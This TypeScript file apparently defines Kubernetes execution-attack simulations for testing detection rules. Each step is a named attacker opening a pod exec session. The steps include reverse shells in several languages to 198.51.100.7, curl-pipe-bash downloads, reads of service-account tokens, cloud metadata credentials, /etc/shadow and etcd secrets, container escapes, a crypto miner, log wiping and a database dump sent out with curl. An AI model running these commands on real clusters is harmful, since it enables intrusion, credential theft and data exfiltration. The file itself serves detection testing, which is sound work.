import { attack } from '../ask.ts';
import { inTerminal, webSocket } from '../session.ts';
import type { AttackStep } from '../step.ts';
import { frontend, jupyter, svetlana, tomas } from './attackers.ts';

const core = '/api/v1';
const web = `${core}/namespaces/web/pods`;
const etcd = `${core}/namespaces/kube-system/pods/etcd-cp-1`;
const target = `${web}/frontend-0`;
const sh = (text: string): string => inTerminal(target, 'sh', '-c', text);

const sessions = attack(
  'execution',
  ['EX01 EX04', frontend.open('shell over a web socket', inTerminal(target, 'bash'), { method: 'GET', headers: webSocket })],
  [
    'EX01 EX04',
    tomas.open('shell in a pod that is on no node', inTerminal(`${web}/waiting`, 'bash'), { method: 'GET', headers: webSocket }),
  ],
  ['EX01', jupyter.open('command by a notebook', inTerminal(`${core}/namespaces/ml/pods/jupyter-0`, 'id'))],
  ['EX02', svetlana.open('session in the system', inTerminal(etcd, 'sh'))],
  ['EX03', frontend.open('session elsewhere, refused', inTerminal(`${core}/namespaces/databases/pods/cnpg-manager-0`, 'sh'))],
  ['EX01', svetlana.open('attached', `${target}/attach?container=main&stdin=true&tty=true`)],
  ['EX11', svetlana.open('port of a database', `${core}/namespaces/databases/pods/cnpg-manager-0/portforward?ports=5432`)],
  ['EX09', frontend.open('own token', inTerminal(target, 'cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'))],
  [
    'EX09 EX08',
    tomas.open('token through the root of a process', sh('cat /proc/1/root/run/secrets/kubernetes.io/serviceaccount/token')),
  ],
  [
    'EX09',
    tomas.open(
      'token for a cloud',
      sh('cat $AWS_WEB_IDENTITY_TOKEN_FILE /var/run/secrets/eks.amazonaws.com/serviceaccount/token'),
    ),
  ],
  ['EX06', tomas.open('reverse shell of bash', inTerminal(target, 'bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'))],
  [
    'EX06',
    tomas.open(
      'reverse shell of python',
      inTerminal(
        target,
        'python3',
        '-c',
        'import os,pty,socket;s=socket.socket();s.connect(("198.51.100.7",443));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("/bin/sh")',
      ),
    ),
  ],
  [
    'EX06',
    tomas.open(
      'reverse shell of ruby',
      inTerminal(
        target,
        'ruby',
        '-rsocket',
        '-e',
        'exit if fork;c=TCPSocket.new("198.51.100.7","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
      ),
    ),
  ],
  [
    'EX06',
    tomas.open(
      'reverse shell of php',
      inTerminal(target, 'php', '-r', '$s=fsockopen("198.51.100.7",443);exec("/bin/sh -i <&3 >&3 2>&3");'),
    ),
  ],
  ['EX06', tomas.open('listening shell', inTerminal(target, 'ncat', '-lvp', '4444', '-e', '/bin/bash'))],
  ['EX06', tomas.open('reverse shell with telnet', sh('TF=$(mktemp -u);mkfifo $TF && telnet 198.51.100.7 443 0<$TF | sh 1>$TF'))],
  [
    'EX07',
    tomas.open(
      'credentials of the node',
      inTerminal(target, 'curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
    ),
  ],
  [
    'EX07',
    tomas.open(
      'token of the machine',
      inTerminal(
        target,
        'wget',
        '-qO-',
        '--header',
        'Metadata-Flavor: Google',
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ),
    ),
  ],
  ['EX07', tomas.open('the same by another name', sh('curl -H Metadata:true "http://[fd00:ec2::254]/latest/api/token" -X PUT'))],
  ['EX05', tomas.open('download and run', inTerminal(target, 'bash', '-c', 'curl -fsSL https://198.51.100.7/i.sh | bash'))],
  ['EX05', tomas.open('download, then run', sh('cd /dev/shm; wget http://198.51.100.7/k; chmod +x k; ./k'))],
  ['EX05 EX04', tomas.open('tools installed', sh('apt-get update && apt-get install -y nmap netcat-openbsd'))],
  ['EX34', tomas.open('ports searched', inTerminal(target, 'nmap', '-sT', '-p-', '10.0.0.0/16'))],
  ['EX05 EX06 EX04 EX29', tomas.open('encoded', sh('echo aWQK|base64 -d|sh'))],
  ['EX08', tomas.open('administrator file of the node', sh('cat /host/etc/kubernetes/admin.conf'))],
  ['EX08', tomas.open('passwords', inTerminal(target, 'cat', '/etc/shadow'))],
  ['EX08', tomas.open('keys of a person', sh('find / -name id_rsa -o -name "*.kubeconfig" 2>/dev/null'))],
  ['EX08', tomas.open('environment of all processes', sh('for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; done'))],
  ['EX08', tomas.open('environment', inTerminal(target, 'printenv'))],
  ['EX08', tomas.open('credentials of a cloud', inTerminal(target, 'cat', '/root/.aws/credentials'))],
  [
    'EX08 EX02 CA01',
    svetlana.open(
      'keys of etcd',
      inTerminal(
        etcd,
        'etcdctl',
        '--cacert=/etc/kubernetes/pki/etcd/ca.crt',
        '--cert=/etc/kubernetes/pki/etcd/server.crt',
        '--key=/etc/kubernetes/pki/etcd/server.key',
        'get',
        '/registry/secrets',
        '--prefix',
      ),
    ),
  ],
  [
    'EX04 EX33 PE20 N33',
    svetlana.open(
      'into the node',
      inTerminal(target, 'nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'bash'),
    ),
  ],
  ['EX04', svetlana.open('root changed', inTerminal(target, 'chroot', '/host', '/bin/bash'))],
  [
    'EX04',
    svetlana.open('containers of the node', sh('crictl -r unix:///host/run/containerd/containerd.sock ps; ctr -n k8s.io c ls')),
  ],
  ['EX04', svetlana.open('disk of the node', sh('mkdir /mnt/d; mount /dev/nvme0n1p1 /mnt/d; ls /mnt/d/etc'))],
  [
    'EX04',
    svetlana.open(
      'release agent',
      sh(
        'mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && echo 1 > /tmp/c/x/notify_on_release; echo /cmd > /tmp/c/release_agent',
      ),
    ),
  ],
  ['EX35', tomas.open('kubectl in a pod', inTerminal(target, '/tmp/kubectl', 'get', 'secrets', '-A', '-o', 'yaml'))],
  ['EX36', tomas.open('tool of attackers', inTerminal(target, '/tmp/cdk', 'evaluate', '--full'))],
  ['EX04 N29', tomas.open('miner started', sh('nohup ./xmrig -o stratum+tcp://pool.example.org:3333 -u x &'))],
  ['EX04 EX08', tomas.open('traces removed', sh('rm -rf /var/log/*; history -c; unset HISTFILE'))],
  ['EX04 EX08', tomas.open('database taken', sh('pg_dumpall -U postgres | gzip | curl -T - https://198.51.100.7/up'))],
  ['EX10', tomas.open('files taken', inTerminal(target, 'tar', 'cf', '-', '/etc/ssl/private'))],
  ['EX10 EX31', tomas.open('files brought', inTerminal(target, 'tar', '-xmf', '-', '-C', '/tmp'))],
  [
    'EX01 N31',
    svetlana.open('the same in every pod', inTerminal(`${core}/namespaces/fleet/pods/unit-{n}`, 'hostname'), { times: 16 }),
  ],
  [
    'EX12 PE01',
    svetlana.strategic('debugging container with all rights', `${target}/ephemeralcontainers`, {
      spec: {
        ephemeralContainers: [
          {
            name: 'debugger-k2x',
            image: 'busybox',
            stdin: true,
            tty: true,
            targetContainerName: 'main',
            securityContext: { privileged: true },
          },
        ],
      },
    }),
  ],
  [
    'EX12',
    tomas.strategic('debugging container', `${web}/frontend-1/ephemeralcontainers`, {
      spec: { ephemeralContainers: [{ name: 'debugger-9fs', image: 'nicolaka/netshoot', stdin: true, tty: true }] },
    }),
  ],
);

/** Sessions in containers. */
export const sessionSteps: readonly AttackStep[] = sessions;
